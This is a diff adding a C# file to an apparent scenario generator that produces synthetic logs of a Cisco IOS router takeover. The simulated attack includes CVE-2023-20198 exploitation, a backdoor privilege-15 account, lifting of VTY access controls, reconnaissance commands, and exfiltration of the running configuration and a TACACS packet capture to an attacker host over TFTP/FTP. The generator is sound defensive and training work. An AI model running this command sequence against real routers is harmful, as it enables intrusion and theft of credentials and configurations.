@@ -1,0 +1,263 @@
+using System.Globalization;
+using Breakwater.Scenarios.Background;
+using Breakwater.Scenarios.Dialects;
+using Breakwater.Scenarios.Shapes;
+using Breakwater.Scenarios.Truths;
+using Breakwater.Scenarios.World;
+using Breakwater.Scenarios.Writing;
+
+namespace Breakwater.Scenarios.Intrusion;
+
+/// <summary>Days 0 and 1: entry, foothold, theft of the configuration, capture of credentials.</summary>
+internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationArchive archive)
+    : Story(scene, truth, archive)
+{
+    internal const string Secret = "$9$2yN8v1xQmLr0aE$Xb7dT4cKpWz5oHsJ9uGfRq3iYt6lMvAeCn1wBxQkZ2";
+
+    public void Play()
+    {
+        DateTime start = Enter();
+        Foothold(start.AddMinutes(6));
+        Capture();
+    }
+
+    private DateTime Enter()
+    {
+        DateTime time = At(StageIds.Entry, "02:11:09");
+        switch (Scene.Variant)
+        {
+            case ScenarioVariant.ValidCredentials:
+                return time;
+            case ScenarioVariant.CpeEntry:
+                Uploads(time.AddHours(-9));
+                return time;
+            default:
+                Exploit(time);
+                return time;
+        }
+    }
+
+    private void Exploit(DateTime time)
+    {
+        for (int i = 0; i < 2; i++)
+        {
+            DateTime at = time.AddSeconds(i * 7);
+            Wire.Request(
+                Scene,
+                "proxy/access.log",
+                at,
+                Craft.WebAddress,
+                "POST",
+                Craft.ExploitPath,
+                200,
+                412 + i,
+                "python-requests/2.31.0",
+                Mark(StageIds.Entry, "T01")
+            );
+        }
+
+        Wire.Alert(
+            Scene,
+            time.AddSeconds(7),
+            Craft.WebAddress,
+            Cast.Edge.Address,
+            80,
+            21004545,
+            "FOX-SRT - Exploit - CVE-2023-20198 Possibly Successful Exploitation Attempt Observed",
+            1,
+            Mark(StageIds.Entry, "~T01")
+        );
+        Scene.Device(
+            Cast.Edge,
+            time.AddSeconds(9),
+            IosShapes.ConfiguredByProgram.With(
+                Craft.ExploitPath.EndsWith('s') ? "SEP_webui_wsma_https" : "SEP_webui_wsma_http",
+                Craft.LocalAccount,
+                "vty0"
+            ),
+            Mark(StageIds.Entry, "T02", "S2")
+        );
+    }
+
+    private void Uploads(DateTime time)
+    {
+        string router = CustomerRouter();
+        long left = Carrier.Seed == 0 ? 42_494_651 : 40_000_000 + Scene.Random.Below(9_000_000);
+        for (int i = 0; i < 100; i++)
+        {
+            long size = i == 99 ? left : left / (100 - i);
+            left -= size;
+            Wire.Upload(
+                Scene,
+                time.AddSeconds(i * 41),
+                router,
+                Craft.WebAddress,
+                $"/up/{i.ToString("000", CultureInfo.InvariantCulture)}",
+                "cisco-IOS",
+                size,
+                Mark(StageIds.Entry, "T75")
+            );
+        }
+
+        for (int i = 0; i < 3; i++)
+        {
+            Wire.Request(
+                Scene,
+                "proxy/access.log",
+                time.AddHours(5).AddSeconds(i * 20),
+                router,
+                "POST",
+                "/acs/cwmp",
+                i == 0 ? 401 : 200,
+                900,
+                "cisco-IOS",
+                Mark(StageIds.Entry, "T78")
+            );
+        }
+    }
+
+    private string CustomerRouter() =>
+        $"{Carrier.Strangers[0]}.{(Carrier.Seed == 0 ? 66 : 20 + new ScenarioRandom(Carrier.Seed, "customer router").Below(200))}";
+
+    private void Foothold(DateTime time)
+    {
+        bool exploited = EdgeAccount == Craft.LocalAccount;
+        string source = Scene.Variant == ScenarioVariant.CpeEntry ? CustomerRouter() : Craft.WebAddress;
+        string[] proves = Scene.Variant switch
+        {
+            ScenarioVariant.CpeEntry => ["T08", "T09", "S1"],
+            ScenarioVariant.ValidCredentials => ["T08", "S1"],
+            _ => ["T03", "S1", "S2"],
+        };
+        // The first login belongs to the entry, what follows to the foothold.
+        new Session(
+            Scene,
+            Cast.Edge,
+            EdgeAccount,
+            source,
+            time.AddMinutes(-4),
+            Typing(StageIds.Entry, proves) with
+            {
+                LocalPort = exploited ? 21111 : 22,
+            }
+        )
+            .Wait(60)
+            .Close();
+        Session session = new(
+            Scene,
+            Cast.Edge,
+            EdgeAccount,
+            source,
+            time,
+            Typing(StageIds.Foothold) with
+            {
+                LocalPort = exploited ? 21111 : 22,
+            }
+        );
+        string[] account = exploited ? ["T30", "S2"] : ["T30"];
+        string[] access = exploited ? ["T38", "S2"] : ["T38"];
+        session.Configure(account, $"username {Craft.LocalAccount} privilege 15 secret 9 {Secret}");
+        ShapedLine saved = SnapshotShapes.Username.With(Craft.LocalAccount, Secret);
+        Archive.Add(session.Now, Cast.Edge, [saved], Mark(StageIds.Foothold, "T30"));
+        session.Begin().Statement("line vty 0 4").Statement($"no access-class {Craft.AccessClass} in", access);
+        DateTime opened = session.Now;
+        Session second = new(
+            Scene,
+            Cast.Edge,
+            Craft.LocalAccount,
+            Craft.ShellAddress,
+            opened.AddSeconds(15),
+            Typing(StageIds.Foothold, exploited ? ["S2"] : [])
+        );
+        session.Wait(Carrier.Seed == 0 ? 42 : 20 + Scene.Random.Below(25));
+        session.Statement($"access-class {Craft.AccessClass} in", access).End().Close();
+        Theft(second);
+    }
+
+    private void Theft(Session session)
+    {
+        DateTime start = session.Now;
+        string[] recon = ["T20", "S1"];
+        string[] commands =
+        [
+            "terminal length 0",
+            "terminal width 0",
+            "show clock",
+            "show version",
+            "show running-config",
+            "show tacacs",
+            "show cdp neighbors",
+            "show file systems",
+            "show platform software status control-processor",
+            "dir bootflash:",
+        ];
+        Session reading = new(
+            Scene,
+            Cast.Edge,
+            Craft.LocalAccount,
+            Craft.ShellAddress,
+            start.AddMinutes(3),
+            Typing(StageIds.Theft, "S1")
+        );
+        session.Close();
+        foreach (string command in commands)
+        {
+            reading.Command(command, recon);
+        }
+
+        bool tftp = Carrier.Seed == 0 || Carrier.Seed % 3 != 1;
+        string target = tftp
+            ? $"tftp://{Craft.WebAddress}/{Craft.ConfigurationFile}"
+            : $"ftp://{Craft.WebAddress}/{Craft.ConfigurationFile}";
+        reading.Command($"copy running-config {target}", "T23", "T74", "S1");
+        Wire.Connection(
+            Scene,
+            reading.Now.AddSeconds(2),
+            new Conversation(Cast.Edge.Address, Craft.WebAddress, tftp ? 69 : 21, tftp ? "udp" : "tcp")
+            {
+                Service = tftp ? "-" : "ftp",
+                Seconds = 9,
+                BytesOut = 62_464,
+                BytesIn = 488,
+            },
+            Mark(StageIds.Theft, "~T74")
+        );
+        reading.Close();
+    }
+
+    private void Capture()
+    {
+        Session session = new(
+            Scene,
+            Cast.Edge,
+            Craft.LocalAccount,
+            Craft.ShellAddress,
+            At(StageIds.Capture, "08:52:30"),
+            Typing(StageIds.Capture, "S3")
+        );
+        string name = Craft.CaptureName;
+        string[] proves = ["T60", "S3"];
+        session.Command($"monitor capture {name} interface {Craft.CaptureInterface} both", "S3");
+        session.Command($"monitor capture {name} match ipv4 protocol tcp any any eq 49", proves);
+        session.Command($"monitor capture {name} start", "S3");
+        session.Log(IosShapes.Capture.With("ENABLE", name, "enabled"), "~T60", "S3");
+        session.Wait(2400);
+        session.Command($"monitor capture {name} stop", "S3");
+        session.Log(IosShapes.Capture.With("DISABLE", name, "disabled"), "~T60", "S3");
+        session.Command($"monitor capture {name} export bootflash:{Craft.CaptureFile}", "~T60", "S3");
+        session.Command($"copy bootflash:{Craft.CaptureFile} ftp://{Craft.WebAddress}/", "T74", "S3");
+        Wire.Connection(
+            Scene,
+            session.Now.AddSeconds(3),
+            new Conversation(Cast.Edge.Address, Craft.WebAddress, 21, "tcp")
+            {
+                Service = "ftp",
+                Seconds = 24,
+                BytesOut = 1_904_220,
+                BytesIn = 2_210,
+            },
+            Mark(StageIds.Capture, "~T74")
+        );
+        session.Close();
+    }
+}
